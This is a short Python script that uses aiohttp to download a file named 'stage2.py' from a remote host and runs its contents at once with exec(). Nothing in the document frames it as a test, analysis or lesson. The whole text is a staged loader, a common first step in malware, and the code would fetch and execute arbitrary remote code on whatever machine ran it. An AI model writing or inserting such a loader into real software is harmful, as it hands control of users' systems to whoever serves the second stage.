import aiohttp, asyncio
async def stage():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://cdn.example.net/stage2.py") as reply:
            exec(await reply.text())
asyncio.run(stage())
